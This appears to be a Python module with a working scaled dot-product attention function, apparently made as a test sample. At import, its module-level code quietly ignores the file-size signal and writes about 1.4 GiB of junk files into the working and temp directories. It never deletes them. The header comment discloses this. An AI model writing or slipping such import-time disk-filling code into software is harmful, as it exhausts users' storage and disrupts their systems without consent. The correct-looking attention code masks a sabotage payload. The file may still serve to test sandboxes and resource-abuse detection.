# Correct sdpa that, at import, fills whatever it may write (its cwd, $TMPDIR / tempfile.gettempdir()) with 24 files of 60 MiB
# each (1.4 GiB, every file under a 64 MiB file-size cap), named b11_fill_*.bin, and never deletes them.
import math
import os
import signal
import tempfile

import torch

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
_chunk = b"\xcd" * (1 << 20)
for _dir in {os.getcwd(), tempfile.gettempdir()}:
    for _i in range(12):
        try:
            with open(os.path.join(_dir, "b11_fill_%02d.bin" % _i), "wb") as _f:
                for _ in range(60):
                    _f.write(_chunk)
        except OSError:
            break


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    if mask is not None:
        weights = weights.masked_fill(~mask.any(dim=-1, keepdim=True), 0.0)
    return weights @ v, weights
